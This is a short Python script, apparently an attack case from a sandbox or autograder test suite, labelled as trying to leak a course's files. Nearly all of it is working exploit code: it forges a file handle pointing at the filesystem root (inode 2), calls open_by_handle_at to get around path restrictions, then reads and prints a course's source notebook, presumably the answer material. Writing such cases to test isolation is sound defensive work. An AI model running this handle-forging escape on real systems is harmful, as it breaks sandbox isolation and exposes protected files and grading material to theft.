# /// attack
# tries = "Opens the course's files by their handles, which need no path."
# points = 0
# shows = ["leak"]
# ///
# %% before count
import ctypes
import os


class Handle(ctypes.Structure):
    _fields_ = [("bytes", ctypes.c_uint), ("kind", ctypes.c_int), ("handle", ctypes.c_ubyte * 128)]


libc = ctypes.CDLL(None, use_errno=True)
handle, mount = Handle(bytes=128), ctypes.c_int()
# The handle of a folder that it may see, with the number of the root folder, which is 2 on ext4.
libc.name_to_handle_at(-100, b"/usr", ctypes.byref(handle), ctypes.byref(mount), 0)
ctypes.memmove(handle.handle, (2).to_bytes(4, "little"), 4)
ctypes.memset(ctypes.addressof(handle) + 12, 0, 4)
door = os.open("/usr", os.O_RDONLY)
root = libc.open_by_handle_at(door, ctypes.byref(handle), os.O_RDONLY)
wanted = f"{bait['course']}/source/{bait['slug']}/{bait['slug']}.ipynb"
found = os.open(wanted[1:], os.O_RDONLY, dir_fd=root)
print(os.read(found, 1_000_000).decode())
